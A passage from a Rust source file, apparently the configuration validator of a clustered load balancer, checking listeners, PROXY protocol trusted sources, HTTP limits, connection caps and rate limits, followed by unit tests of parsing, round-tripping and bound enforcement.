            p.push(place, "missing protocol (http, tcp or udp)");
            Protocol::Http
        }
        Some(s) => s.parse::<Protocol>().unwrap_or_else(|e| {
            p.push(place, e);
            Protocol::Http
        }),
    };
    let port = match rl.port {
        None => {
            p.push(place, "missing port");
            0
        }
        Some(v) if !(1..=65535).contains(&v) => {
            p.push(place, format!("port {v} out of range 1..=65535"));
            0
        }
        Some(v) => v as u16,
    };
    let pool = match &rl.pool {
        None => {
            p.push(place, "missing pool");
            String::new()
        }
        Some(s) => s.clone(),
    };
    if rl.redirect && protocol != Protocol::Http {
        p.push(place, "redirect is only for http listeners");
    }
    let proxy_protocol = match rl.proxy_protocol {
        None => None,
        Some(v @ (1 | 2)) if protocol == Protocol::Tcp => Some(v as u8),
        Some(1 | 2) => {
            p.push(place, "proxy_protocol is only for tcp listeners");
            None
        }
        Some(v) => {
            p.push(place, format!("proxy_protocol {v} is not 1 or 2"));
            None
        }
    };
    let accept_proxy_protocol =
        rl.accept_proxy_protocol.as_ref().and_then(|r| validate_accept_proxy(p, place, protocol, r));
    let d = Timeouts::default();
    let timeouts = match &rl.timeouts {
        None => d,
        Some(rt) => {
            let tplace = format!("{place} timeouts");
            let mut field = |name: &str, v: &Option<String>, default: Duration, max: Duration| {
                bounded_duration(p, &tplace, name, v, default, MIN_TIMEOUT..=max).unwrap_or(default)
            };
            Timeouts {
                connect: field("connect", &rt.connect, d.connect, MAX_CONNECT_TIMEOUT),
                request_header: field(
                    "request_header",
                    &rt.request_header,
                    d.request_header,
                    MAX_REQUEST_HEADER_TIMEOUT,
                ),
                idle: field("idle", &rt.idle, d.idle, MAX_IDLE_TIMEOUT),
                upstream_response: field(
                    "upstream_response",
                    &rt.upstream_response,
                    d.upstream_response,
                    MAX_UPSTREAM_RESPONSE_TIMEOUT,
                ),
            }
        }
    };
    if !rl.route.is_empty() && protocol != Protocol::Http {
        p.push(place, "routes are only for http listeners");
    }
    let limits = match &rl.limits {
        None => HttpLimits::default(),
        // A listener of another protocol keeps the defaults, which `get config` shows for every
        // listener: those parse back, other values are refused.
        Some(raw) if protocol != Protocol::Http => {
            let mut checked = Problems(Vec::new());
            if validate_http_limits(&mut checked, place, raw) != HttpLimits::default()
                || !checked.0.is_empty()
            {
                p.push(place, "limits are only for http listeners");
            }
            HttpLimits::default()
        }
        Some(raw) => validate_http_limits(p, &format!("{place} limits"), raw),
    };
    if rl.route.len() > MAX_ROUTES_PER_LISTENER {
        p.push(
            place,
            format!("{} routes, above the limit of {MAX_ROUTES_PER_LISTENER} per listener", rl.route.len()),
        );
    }
    let mut routes = Vec::with_capacity(rl.route.len());
    for (ri, rr) in rl.route.iter().enumerate() {
        let rplace = format!("{place} route {}", ri + 1);
        if rr.host.is_none() && rr.path_prefix.is_none() {
            p.push(&rplace, "a route needs host, path_prefix or both");
        }
        if let Some(pp) = &rr.path_prefix {
            if pp.len() > MAX_PATH_LEN {
                p.push(
                    &rplace,
                    format!("path_prefix is {} bytes long, above the limit of {MAX_PATH_LEN}", pp.len()),
                );
            } else if !pp.starts_with('/') {
                p.push(&rplace, format!("invalid path_prefix \"{}\": must start with /", shown(pp)));
            }
        }
        if let Some(h) = &rr.host {
            if h.len() > MAX_HOST_LEN {
                p.push(&rplace, format!("host is {} bytes long, above the limit of {MAX_HOST_LEN}", h.len()));
            } else if h.is_empty() || h.bytes().any(|b| b.is_ascii_whitespace() || b == b'/') {
                p.push(&rplace, format!("invalid host \"{h}\""));
            }
        }
        let Some(pool) = rr.pool.clone() else {
            p.push(&rplace, "missing pool");
            continue;
        };
        routes.push(Route {
            host: rr.host.as_ref().map(|h| h.to_ascii_lowercase()),
            path_prefix: rr.path_prefix.clone(),
            pool,
            rate_limit: rr.rate_limit.as_ref().and_then(|r| validate_rate_limit(p, &rplace, r)),
        });
    }
    let admission = rl.admission.as_ref().map(|r| validate_listener_limits(p, place, protocol, r));
    let tls = rl.tls.as_ref().and_then(|r| tls::validate_listener_tls(p, place, protocol, r));
    let sni_route = tls::validate_sni_routes(p, place, tls.as_ref(), &rl.sni_route);
    Some(Listener {
        name,
        protocol,
        port,
        pool,
        redirect: rl.redirect,
        proxy_protocol,
        accept_proxy_protocol,
        timeouts,
        route: routes,
        limits,
        admission,
        tls,
        sni_route,
        access_log: rl.access_log,
    })
}

/// A listener's `accept_proxy_protocol`: HTTP and TCP only, with a non-empty list of networks.
fn validate_accept_proxy(
    p: &mut Problems,
    place: &str,
    protocol: Protocol,
    raw: &RawAcceptProxyProtocol,
) -> Option<AcceptProxyProtocol> {
    if protocol == Protocol::Udp {
        p.push(place, "accept_proxy_protocol is only for http and tcp listeners");
    }
    let from = raw.from.as_deref().unwrap_or_default();
    if from.is_empty() {
        p.push(
            place,
            "accept_proxy_protocol needs `from`, the fronts allowed to send the header \
             (e.g. [\"10.0.0.0/8\"]; [\"0.0.0.0/0\", \"::/0\"] trusts every source)",
        );
        return None;
    }
    if from.len() > MAX_PROXY_PROTOCOL_FROM {
        p.push(
            place,
            format!(
                "accept_proxy_protocol.from has {} entries, above the limit of {MAX_PROXY_PROTOCOL_FROM}",
                from.len()
            ),
        );
        return None;
    }
    let mut nets = Vec::with_capacity(from.len());
    for s in from {
        let net = match (s.parse::<ipnet::IpNet>(), s.parse::<IpAddr>()) {
            (Ok(net), _) => net,
            (_, Ok(ip)) => ipnet::IpNet::from(ip),
            _ => {
                p.push(
                    place,
                    format!(
                        "accept_proxy_protocol.from: invalid \"{}\": expected an IP address or a network \
                         (10.0.0.0/8, 2001:db8::/32)",
                        shown(s)
                    ),
                );
                continue;
            }
        };
        if net.trunc() != net {
            p.push(
                place,
                format!(
                    "accept_proxy_protocol.from: \"{s}\" has host bits set (the network is {})",
                    net.trunc()
                ),
            );
            continue;
        }
        nets.push(net);
    }
    (nets.len() == from.len()).then_some(AcceptProxyProtocol { from: nets })
}

/// `[listener.limits]`: each field within its range, the request line within the head.
fn validate_http_limits(p: &mut Problems, place: &str, raw: &RawHttpLimits) -> HttpLimits {
    let d = HttpLimits::default();
    let mut field = |name: &str, v: Option<i64>, default: u64, lo: u64, hi: u64| -> u64 {
        match v {
            None => default,
            Some(v) if (lo as i64..=hi as i64).contains(&v) => v as u64,
            Some(v) => {
                p.push(place, format!("{name} {v} out of range {lo}..={hi}"));
                default
            }
        }
    };
    let range32 = |r: &std::ops::RangeInclusive<u32>| (u64::from(*r.start()), u64::from(*r.end()));
    let (lo, hi) = range32(&MAX_REQUEST_HEAD_RANGE);
    let max_request_head =
        field("max_request_head", raw.max_request_head, u64::from(d.max_request_head), lo, hi) as u32;
    let (lo, hi) = range32(&MAX_HEADERS_RANGE);
    let max_headers = field("max_headers", raw.max_headers, u64::from(d.max_headers), lo, hi) as u32;
    let (lo, hi) = range32(&MAX_REQUEST_LINE_RANGE);
    let max_request_line =
        field("max_request_line", raw.max_request_line, u64::from(d.max_request_line), lo, hi) as u32;
    let max_body = raw
        .max_body
        .map(|_| field("max_body", raw.max_body, 0, *MAX_BODY_RANGE.start(), *MAX_BODY_RANGE.end()))
        .filter(|b| *b > 0);
    if max_request_line > max_request_head {
        p.push(
            place,
            format!("max_request_line {max_request_line} is above max_request_head {max_request_head}"),
        );
    }
    HttpLimits {
        max_request_head,
        max_headers,
        max_request_line: max_request_line.min(max_request_head),
        max_body,
    }
}

// ---------------------------------------------------------------------------------------------
// Connection caps and rate limits: the listener's `[listener.admission]` (caps per listener and per
// source IP, and its `[listener.admission.rate_limit]`), a route's `[listener.route.rate_limit]` and a
// pool's `max_connections_per_backend`. All unlimited by default. README ("Limits", "Connection caps
// and rate limits") lists the bounds.
// ---------------------------------------------------------------------------------------------

/// Largest value of a connection cap (`max_connections`, `max_connections_per_source`,
/// `max_connections_per_backend`).
pub const MAX_CONNECTIONS_LIMIT: u32 = 1_000_000;
/// Largest rate limit `rate`, in tokens (requests or new connections) per second.
pub const MAX_RATE: u32 = 1_000_000;
/// Largest rate limit `burst`, in tokens.
pub const MAX_BURST: u32 = 1_000_000;

/// Connection caps and rate limit of one listener, enforced by each node on its own connections.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize, Default)]
pub struct ListenerLimits {
    /// Most client connections (UDP: flows) open at once on this listener, on each node.
    #[serde(default)]
    pub max_connections: Option<u32>,
    /// Most client connections (UDP: flows) open at once from one source IP, on each node.
    #[serde(default)]
    pub max_connections_per_source: Option<u32>,
    /// HTTP: requests; TCP: new connections.
    #[serde(default)]
    pub rate_limit: Option<RateLimit>,
}

/// A token bucket: `rate` tokens per second, at most `burst` saved up; each HTTP request or new TCP
/// connection takes one.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub struct RateLimit {
    pub rate: u32,
    pub burst: u32,
    pub per: RateKey,
    pub scope: RateScope,
}

/// What one bucket is for.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum RateKey {
    /// One bucket per client IP.
    SourceIp,
    /// One bucket for every client of the listener (or route).
    Listener,
}

/// Whose budget `rate` and `burst` are.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum RateScope {
    /// Each node enforces `rate` and `burst` by itself.
    Node,
    /// `rate` and `burst` are the fleet's: each node enforces its share, divided by the number of live
    /// nodes of the committed membership.
    Fleet,
}

/// `[listener.admission]`: connection caps and the rate limit, each node on its own connections.
#[derive(Debug, Clone, Default, Deserialize, JsonSchema)]
#[serde(deny_unknown_fields)]
pub struct RawListenerLimits {
    /// Client connections (UDP: flows) open at once on this listener, on each node. Default:
    /// unlimited; 1..=1000000 (`MAX_CONNECTIONS_LIMIT`).
    #[schemars(range(min = 1, max = MAX_CONNECTIONS_LIMIT))]
    pub max_connections: Option<i64>,
    /// Client connections (UDP: flows) open at once from one source IP, on each node. Default:
    /// unlimited; 1..=1000000.
    #[schemars(range(min = 1, max = MAX_CONNECTIONS_LIMIT))]
    pub max_connections_per_source: Option<i64>,
    /// HTTP: requests; TCP: new connections (not for UDP). Default: none.
    pub rate_limit: Option<RawRateLimit>,
}

/// A token bucket: `rate` tokens a second, at most `burst` saved up; each HTTP request or new TCP
/// connection takes one.
#[derive(Debug, Clone, Default, Deserialize, JsonSchema)]
#[serde(deny_unknown_fields)]
pub struct RawRateLimit {
    /// Tokens per second. Required; 1..=1000000 (`MAX_RATE`).
    #[schemars(range(min = 1, max = MAX_RATE))]
    pub rate: Option<i64>,
    /// Tokens saved up. Default: `rate`; 1..=1000000 (`MAX_BURST`).
    #[schemars(range(min = 1, max = MAX_BURST))]
    pub burst: Option<i64>,
    /// `source_ip`: one bucket per client IP; `listener`: one bucket for every client. Default
    /// `source_ip`.
    #[serde(default)]
    #[schemars(schema_with = "schema::rate_key")]
    pub per: Option<String>,
    /// `node`: each node enforces `rate` and `burst` by itself; `fleet`: they are the fleet's budget,
    /// each node enforcing its share. Default `node`.
    #[serde(default)]
    #[schemars(schema_with = "schema::rate_scope")]
    pub scope: Option<String>,
}

/// A count within `1..=max`; `None` with a problem outside it.
fn bounded_count(p: &mut Problems, place: &str, field: &str, v: i64, max: u32) -> Option<u32> {
    if (1..=i64::from(max)).contains(&v) {
        Some(v as u32)
    } else {
        p.push(place, format!("{field} {v} out of range 1..={max}"));
        None
    }
}

fn validate_backend_limit(p: &mut Problems, place: &str, v: Option<i64>) -> Option<u32> {
    bounded_count(p, place, "max_connections_per_backend", v?, MAX_CONNECTIONS_LIMIT)
}

fn validate_listener_limits(
    p: &mut Problems,
    listener_place: &str,
    protocol: Protocol,
    rl: &RawListenerLimits,
) -> ListenerLimits {
    let place = format!("{listener_place} admission");
    let max_connections = rl
        .max_connections
        .and_then(|v| bounded_count(p, &place, "max_connections", v, MAX_CONNECTIONS_LIMIT));
    let max_connections_per_source = rl
        .max_connections_per_source
        .and_then(|v| bounded_count(p, &place, "max_connections_per_source", v, MAX_CONNECTIONS_LIMIT));
    let rate_limit = match &rl.rate_limit {
        Some(_) if protocol == Protocol::Udp => {
            p.push(&place, "rate_limit is only for http and tcp listeners");
            None
        }
        Some(r) => validate_rate_limit(p, &place, r),
        None => None,
    };
    ListenerLimits { max_connections, max_connections_per_source, rate_limit }
}

fn validate_rate_limit(p: &mut Problems, outer: &str, r: &RawRateLimit) -> Option<RateLimit> {
    let place = format!("{outer} rate_limit");
    let before = p.0.len();
    let rate = match r.rate {
        None => {
            p.push(&place, "missing rate (tokens per second)");
            None
        }
        Some(v) => bounded_count(p, &place, "rate", v, MAX_RATE),
    };
    // The default burst is one second's worth of tokens.
    let burst = match r.burst {
        None => rate.map(|r| r.min(MAX_BURST)),
        Some(v) => bounded_count(p, &place, "burst", v, MAX_BURST),
    };
    let per = match r.per.as_deref().unwrap_or("source_ip") {
        "source_ip" => RateKey::SourceIp,
        "listener" => RateKey::Listener,
        other => {
            p.push(&place, format!("unknown per \"{}\" (expected source_ip or listener)", shown(other)));
            RateKey::SourceIp
        }
    };
    let scope = match r.scope.as_deref().unwrap_or("node") {
        "node" => RateScope::Node,
        "fleet" => RateScope::Fleet,
        other => {
            p.push(&place, format!("unknown scope \"{}\" (expected node or fleet)", shown(other)));
            RateScope::Node
        }
    };
    match (rate, burst) {
        (Some(rate), Some(burst)) if p.0.len() == before => Some(RateLimit { rate, burst, per, scope }),
        _ => None,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    const DEMO: &str = r#"
[[pool]]
name = "web"
policy = "maglev"
hash_key = "header:x-user"
table_size = 65537
  [[pool.backend]]
  addr = "127.0.0.1:9001"
  weight = 1
  [[pool.backend]]
  addr = "127.0.0.1:9002"
  weight = 2
  [pool.health]
  kind = "http"
  path = "/health"
  interval = "1s"
  timeout = "500ms"
  rise = 2
  fall = 2

[[listener]]
name = "web"
protocol = "http"
port = 8080
pool = "web"
"#;

    fn errors(text: &str) -> Vec<String> {
        parse(text, Format::Toml).expect_err("config should be rejected").messages()
    }

    #[test]
    fn design_example_parses() {
        let c = parse(DEMO, Format::Toml).unwrap();
        assert_eq!(c.pool.len(), 1);
        let p = &c.pool[0];
        assert_eq!(p.policy, Policy::Maglev);
        assert_eq!(p.hash_key, HashKey::Header("x-user".into()));
        assert_eq!(p.backend[1].weight, 2);
        assert_eq!(p.health.kind, HealthKind::Http);
        assert_eq!(p.health.timeout, Duration::from_millis(500));
        assert_eq!(c.listener[0].port, 8080);
    }

    #[test]
    fn typed_config_round_trips_through_toml_json_and_postcard() {
        let c = parse(DEMO, Format::Toml).unwrap();
        assert_eq!(parse(&c.to_toml(), Format::Toml).unwrap(), c);
        assert_eq!(parse(&c.to_json(), Format::Json).unwrap(), c);
        let bytes = postcard::to_allocvec(&c).unwrap();
        assert_eq!(postcard::from_bytes::<ClusterConfig>(&bytes).unwrap(), c);
    }

    /// Found replaying the `config` corpus after the HTTP limits landed: every listener shows the
    /// default `limits` in `get config`, and a TCP or UDP listener's were refused when applied back.
    #[test]
    fn tcp_and_udp_listeners_from_get_config_parse_back() {
        let text = "[[pool]]\nname = \"p\"\n[[listener]]\nname = \"t\"\nprotocol = \"tcp\"\nport = 81\npool = \"p\"\n\
                    [[listener]]\nname = \"u\"\nprotocol = \"udp\"\nport = 53\npool = \"p\"\n";
        let c = parse(text, Format::Toml).unwrap();
        assert_eq!(parse(&c.to_toml(), Format::Toml).unwrap(), c);
        assert_eq!(parse(&c.to_json(), Format::Json).unwrap(), c);
    }

    #[test]
    fn accept_proxy_protocol_needs_trusted_sources_and_round_trips() {
        let good = r#"
[[pool]]
name = "p"
  [[pool.backend]]
  addr = "127.0.0.1:9001"
[[listener]]
name = "web"
protocol = "http"
port = 8080
pool = "p"
  [listener.accept_proxy_protocol]
  from = ["10.0.0.0/8", "192.0.2.7", "2001:db8::/32"]
[[listener]]
name = "tcp"
protocol = "tcp"
port = 8081
pool = "p"
proxy_protocol = 2
accept_proxy_protocol = { from = ["0.0.0.0/0", "::/0"] }
"#;
        let c = parse(good, Format::Toml).unwrap();
        let a = c.listener[0].accept_proxy_protocol.as_ref().unwrap();
        let shown: Vec<String> = a.from.iter().map(|n| n.to_string()).collect();
        assert_eq!(shown, ["10.0.0.0/8", "192.0.2.7/32", "2001:db8::/32"]);
        assert!(a.trusts("10.1.2.3".parse().unwrap()));
        assert!(a.trusts("::ffff:10.1.2.3".parse().unwrap()), "IPv4-mapped counts as IPv4");
        assert!(a.trusts("192.0.2.7".parse().unwrap()));
        assert!(!a.trusts("192.0.2.8".parse().unwrap()));
        assert!(a.trusts("2001:db8::9".parse().unwrap()));
        assert!(!a.trusts("2001:db9::9".parse().unwrap()));
        assert!(c.listener[1].accept_proxy_protocol.as_ref().unwrap().trusts("203.0.113.1".parse().unwrap()));
        assert!(parse(DEMO, Format::Toml).unwrap().listener[0].accept_proxy_protocol.is_none());
        assert_eq!(parse(&c.to_toml(), Format::Toml).unwrap(), c);
        assert_eq!(parse(&c.to_json(), Format::Json).unwrap(), c);
        let bytes = postcard::to_allocvec(&c).unwrap();
        assert_eq!(postcard::from_bytes::<ClusterConfig>(&bytes).unwrap(), c);

        let listener = |proto: &str, accept: &str| {
            format!(
                "[[pool]]\nname = \"p\"\n[[listener]]\nname = \"l\"\nprotocol = \"{proto}\"\nport = 53\n\
                 pool = \"p\"\naccept_proxy_protocol = {accept}\n"
            )
        };
        let needs_from =
            "listener \"l\": accept_proxy_protocol needs `from`, the fronts allowed to send the \
                          header (e.g. [\"10.0.0.0/8\"]; [\"0.0.0.0/0\", \"::/0\"] trusts every source)";
        assert_eq!(errors(&listener("tcp", "{}")), [needs_from]);
        assert_eq!(errors(&listener("tcp", "{ from = [] }")), [needs_from]);
        assert_eq!(
            errors(&listener("udp", "{ from = [\"10.0.0.0/8\"] }")),
            ["listener \"l\": accept_proxy_protocol is only for http and tcp listeners"]
        );
        assert_eq!(
            errors(&listener("tcp", "{ from = [\"10.0.0.1/8\", \"10.0.0.0/33\", \"fronts\"] }")),
            [
                "listener \"l\": accept_proxy_protocol.from: \"10.0.0.1/8\" has host bits set (the network is 10.0.0.0/8)",
                "listener \"l\": accept_proxy_protocol.from: invalid \"10.0.0.0/33\": expected an IP address or a \
                 network (10.0.0.0/8, 2001:db8::/32)",
                "listener \"l\": accept_proxy_protocol.from: invalid \"fronts\": expected an IP address or a network \
                 (10.0.0.0/8, 2001:db8::/32)",
            ]
        );
        let many: Vec<String> =
            (0..=MAX_PROXY_PROTOCOL_FROM).map(|i| format!("\"10.0.{}.{}\"", i / 256, i % 256)).collect();
        assert_eq!(
            errors(&listener("tcp", &format!("{{ from = [{}] }}", many.join(", ")))),
            ["listener \"l\": accept_proxy_protocol.from has 257 entries, above the limit of 256"]
        );
        let e = errors(&listener("tcp", "true"));
        assert!(e[0].contains("accept_proxy_protocol"), "{e:?}");
        let e = errors(&listener("tcp", "{ from = [\"10.0.0.0/8\"], trust = true }"));
        assert!(e[0].contains("unknown field `trust`"), "{e:?}");
    }

    #[test]
    fn every_problem_is_listed_with_its_place() {
        let text = r#"
[[pool]]
name = "web"
policy = "fastest"
table_size = 65536
  [[pool.backend]]
  addr = "10.0.0.1:80"
  [[pool.backend]]
  addr = "10.0.0.1:99999"
  weight = 5000
[[pool]]
name = "web"
[[listener]]
name = "a"
protocol = "http"
port = 8080
pool = "nope"
[[listener]]
name = "b"
protocol = "tcp"
port = 8080
pool = "web"
"#;
        let errs = errors(text);
        let want = [
            "pool \"web\": unknown policy \"fastest\"",
            "pool \"web\": table_size 65536 is not prime",
            "pool \"web\" backend 2: invalid address \"10.0.0.1:99999\"",
            "pool \"web\" backend 2: weight 5000 out of range 1..=1000",
            "pool \"web\": duplicate pool name",
            "listener \"a\": pool \"nope\" does not exist",
            "listener \"b\": port conflict: tcp/8080 is already used by listener \"a\"",
        ];
        for w in want {
            assert!(errs.iter().any(|e| e.starts_with(w)), "missing {w:?} in {errs:#?}");
        }
        assert_eq!(errs.len(), want.len(), "{errs:#?}");
    }

    #[test]
    fn tcp_and_udp_may_share_a_port_but_not_reserved_ones() {
        let text = r#"
[[pool]]
name = "p"
[[listener]]
name = "t"
protocol = "tcp"
port = 5353
pool = "p"
[[listener]]
name = "u"
protocol = "udp"
port = 5353
pool = "p"
[[listener]]
name = "g"
protocol = "tcp"
port = 7400
pool = "p"
"#;
        assert_eq!(errors(text), vec!["listener \"g\": port 7400 is reserved for lbnode gRPC".to_string()]);
    }

    #[test]
    fn table_size_bounds() {
        let with = |size: u64, backends: usize| {
            let mut t = format!("[[pool]]\nname = \"p\"\ntable_size = {size}\n");
            for i in 0..backends {
                t += &format!("[[pool.backend]]\naddr = \"127.0.0.1:{}\"\n", 10000 + i);
            }
            parse(&t, Format::Toml)
        };
        assert!(with(65537, 3).is_ok());
        assert!(with(97, 1).is_err(), "below minimum");
        assert!(with(101, 11).is_err(), "fewer than 10 slots per backend");
        assert!(with(16_777_259, 1).is_err(), "above maximum");
    }

    #[test]
    fn hash_key_must_fit_the_listener() {
        let text = r#"
[[pool]]
name = "p"
policy = "maglev"
hash_key = "header:x-user"
[[listener]]
name = "t"
protocol = "tcp"
port = 9000
pool = "p"
"#;
        let errs = errors(text);
        assert_eq!(errs.len(), 1);
        assert!(errs[0].contains("needs an http listener"), "{errs:?}");
    }

    #[test]
    fn unknown_fields_and_syntax_errors_are_named() {
        let errs = errors("[[pool]]\nname = \"p\"\npolcy = \"maglev\"\n");
        assert!(errs[0].contains("polcy"), "{errs:?}");
        let errs = parse("{\"pool\": [", Format::Json).unwrap_err().messages();
        assert!(errs[0].starts_with("cannot parse JSON"), "{errs:?}");
    }

    #[test]
    fn health_problems() {
        let text = r#"
[[pool]]
name = "p"
  [pool.health]
  kind = "icmp"
  path = "health"
  interval = "10ms"
  timeout = "soon"
  rise = 0
"#;
        let errs = errors(text);
        assert_eq!(errs.len(), 5, "{errs:#?}");
        assert!(errs.iter().all(|e| e.starts_with("pool \"p\" health: ")));
    }

    #[test]
    fn outlier_and_scale_sections() {
        let good = r#"
[[pool]]
name = "p"
  [[pool.backend]]
  addr = "127.0.0.1:9001"
  [[pool.backend]]
  addr = "127.0.0.1:9002"
  standby = true
  [pool.outlier]
  consecutive_5xx = 3
  base_ejection = "10s"
  [pool.scale]
  min_active = 1
  max_active = 2
  high_watermark = 20
  low_watermark = 5
  window = "5s"
  scale_out_hook = "add-web"
"#;
        let c = parse(good, Format::Toml).unwrap();
        let p = &c.pool[0];
        assert_eq!(p.outlier.consecutive_5xx, 3);
        assert_eq!(p.outlier.consecutive_connect_failures, 5, "default");
        assert_eq!(p.scale.as_ref().unwrap().window, Duration::from_secs(5));
        assert_eq!(p.scale.as_ref().unwrap().scale_out_hook.as_deref(), Some("add-web"));
        assert_eq!(p.scale.as_ref().unwrap().scale_in_hook, None);
        assert_eq!(parse(&c.to_toml(), Format::Toml).unwrap(), c);
        let bytes = postcard::to_allocvec(&c).unwrap();
        assert_eq!(postcard::from_bytes::<ClusterConfig>(&bytes).unwrap(), c);

        let bad = r#"
[[pool]]
name = "p"
  [[pool.backend]]
  addr = "127.0.0.1:9001"
  [pool.outlier]
  max_ejection_percent = 150
  [pool.scale]
  min_active = 3
  max_active = 2
  high_watermark = 5
  low_watermark = 5
"#;
        let errs = errors(bad);
        for want in [
            "pool \"p\" outlier: max_ejection_percent 150 out of range 0..=100",
            "pool \"p\" scale: the pool has no standby backend to scale with",
            "pool \"p\" scale: min_active 3 is above max_active 2",
            "pool \"p\" scale: max_active 2 is above the 1 primary and standby backends",
            "pool \"p\" scale: low_watermark 5 must be below high_watermark 5",
        ] {
            assert!(errs.iter().any(|e| e == want), "missing {want:?} in {errs:#?}");
        }
        assert_eq!(errs.len(), 5, "{errs:#?}");
    }

    /// A pool named `name` with `n` backends (127.0.x.y:9000), as compact TOML.
    fn pool_text(name: &str, policy: &str, n: usize) -> String {
        let mut t = format!("[[pool]]\nname = \"{name}\"\npolicy = \"{policy}\"\n");
        for i in 0..n {
            t +=
                &format!("[[pool.backend]]\naddr = \"10.{}.{}.{}:9000\"\n", i >> 16, (i >> 8) & 255, i & 255);
        }
        t
    }

    fn one_error(text: &str) -> String {
        let errs = errors(text);
        assert_eq!(errs.len(), 1, "{errs:#?}");
        errs.into_iter().next().unwrap()
    }

    #[test]
    fn a_document_above_the_size_limit_is_refused_before_it_is_parsed() {
        let mut text = "# padding\n".repeat(MAX_CONFIG_BYTES / 10);
        text.push_str("[[pool]]\nname = \"p\"\n");
        assert!(text.len() > MAX_CONFIG_BYTES);
        let err = one_error(&text);
        assert_eq!(
            err,
            format!(
                "the config is {} bytes, above the limit of {MAX_CONFIG_BYTES} bytes (3 MiB)",
                text.len()
            )
        );
        // Not even a syntax error is reported: nothing was parsed.
        let err = parse(&"{".repeat(MAX_CONFIG_BYTES + 1), Format::Json).unwrap_err().messages();
        assert!(err[0].contains("above the limit of"), "{err:?}");
    }

    #[test]
    fn the_scale_goals_fit_every_limit_and_round_trip_within_the_size_limit() {
        for (pools, backends, policy) in
            [(1_000, 10, "maglev"), (100, 100, "maglev"), (1_000, 10, "ring_hash")]
        {
            let mut text = String::new();
            for i in 0..pools {
                text += &pool_text(&format!("pool-{i}"), policy, backends);
            }
            let c = parse(&text, Format::Toml).unwrap_or_else(|e| panic!("{pools} x {backends}: {e}"));
            assert_eq!(c.pool.len(), pools);
            // What `get config` shows can be applied again.
            for (what, shown) in [("toml", c.to_toml()), ("json", c.to_json())] {
                assert!(
                    shown.len() <= MAX_CONFIG_BYTES,
                    "{pools} x {backends} as {what}: {} bytes",
                    shown.len()
                );
            }
        }
    }

    #[test]
    fn counts_are_bounded() {
        let many_pools: String = (0..=MAX_POOLS).map(|i| format!("[[pool]]\nname = \"p{i}\"\n")).collect();
        assert_eq!(
            one_error(&many_pools),
            format!("{} pools, above the limit of {MAX_POOLS}", MAX_POOLS + 1)
        );

        let big_pool = pool_text("p", "round_robin", MAX_BACKENDS_PER_POOL + 1);
        assert_eq!(
            one_error(&big_pool),
            format!(
                "pool \"p\": {} backends, above the limit of {MAX_BACKENDS_PER_POOL} per pool",
                MAX_BACKENDS_PER_POOL + 1
            )
        );
        assert!(parse(&pool_text("p", "round_robin", MAX_BACKENDS_PER_POOL), Format::Toml).is_ok());

        let pools = MAX_TOTAL_BACKENDS / MAX_BACKENDS_PER_POOL + 1;
        let total: String =
            (0..pools).map(|i| pool_text(&format!("p{i}"), "round_robin", MAX_BACKENDS_PER_POOL)).collect();
        assert_eq!(
            one_error(&total),
            format!(
                "{} backends over all pools, above the limit of {MAX_TOTAL_BACKENDS}",
                pools * MAX_BACKENDS_PER_POOL
            )
        );

        let listeners: String = (0..=MAX_LISTENERS)
            .map(|i| {
                format!(
                    "[[listener]]\nname = \"l{i}\"\nprotocol = \"tcp\"\nport = {}\npool = \"p\"\n",
                    20_000 + i
                )
            })
            .collect();
        assert_eq!(
            one_error(&format!("[[pool]]\nname = \"p\"\n{listeners}")),
            format!("{} listeners, above the limit of {MAX_LISTENERS}", MAX_LISTENERS + 1)
        );

        let routes = |listener: usize, n: usize| -> String {
            let mut t = format!(
                "[[listener]]\nname = \"l{listener}\"\nprotocol = \"http\"\nport = {}\npool = \"p\"\n",
                20_000 + listener
            );
            for _ in 0..n {
                t += "[[listener.route]]\npath_prefix = \"/a\"\npool = \"p\"\n";
            }
            t
        };
        assert_eq!(
            one_error(&format!("[[pool]]\nname = \"p\"\n{}", routes(0, MAX_ROUTES_PER_LISTENER + 1))),
            format!(
                "listener \"l0\": {} routes, above the limit of {MAX_ROUTES_PER_LISTENER} per listener",
                MAX_ROUTES_PER_LISTENER + 1
            )
        );
        let listeners = MAX_TOTAL_ROUTES / MAX_ROUTES_PER_LISTENER + 1;
        let all: String = (0..listeners).map(|l| routes(l, MAX_ROUTES_PER_LISTENER)).collect();
        assert_eq!(
            one_error(&format!("[[pool]]\nname = \"p\"\n{all}")),
            format!(
                "{} routes over all listeners, above the limit of {MAX_TOTAL_ROUTES}",
                listeners * MAX_ROUTES_PER_LISTENER
            )
        );
    }

    #[test]
    fn table_slots_are_bounded_per_pool_and_over_all_pools() {
        let one = |size: u64| format!("[[pool]]\nname = \"p\"\npolicy = \"maglev\"\ntable_size = {size}\n");
        assert!(one(MAX_TABLE_SIZE).len() < 100 && parse(&one(MAX_TABLE_SIZE), Format::Toml).is_ok());
        assert_eq!(
            one_error(&one(16_777_259)),
            format!("pool \"p\": table_size 16777259 out of range {MIN_TABLE_SIZE}..={MAX_TABLE_SIZE}")
        );
        let pools = (MAX_TOTAL_TABLE_SLOTS / MAX_TABLE_SIZE + 1) as usize;
        let text: String = (0..pools)
            .map(|i| {
                format!("[[pool]]\nname = \"p{i}\"\npolicy = \"maglev\"\ntable_size = {MAX_TABLE_SIZE}\n")
            })
            .collect();
        let err = one_error(&text);
        assert!(
            err.starts_with(&format!(
                "{} table slots over all pools, above the limit of {MAX_TOTAL_TABLE_SLOTS}",
                pools as u64 * MAX_TABLE_SIZE
            )),
            "{err}"
        );
        // Tables of other policies are not built: they count nothing.
        let text: String = (0..pools)
            .map(|i| {
                format!("[[pool]]\nname = \"p{i}\"\npolicy = \"random\"\ntable_size = {MAX_TABLE_SIZE}\n")
            })
            .collect();
        assert!(parse(&text, Format::Toml).is_ok());
        // A ring counts its points, capped per ring.
        let c = parse(&pool_text("r", "ring_hash", 3), Format::Toml).unwrap();
        assert_eq!(c.pool[0].table_slots(), 3 * RING_POINTS_PER_WEIGHT);
        let c = parse(&pool_text("r", "ring_hash", 1_000), Format::Toml).unwrap();
        assert_eq!(c.pool[0].table_slots(), RING_MAX_POINTS);
    }

    #[test]
    fn every_duration_is_bounded_above_and_below() {
        // The other field of the pair at its maximum, so that only the bound is tested.
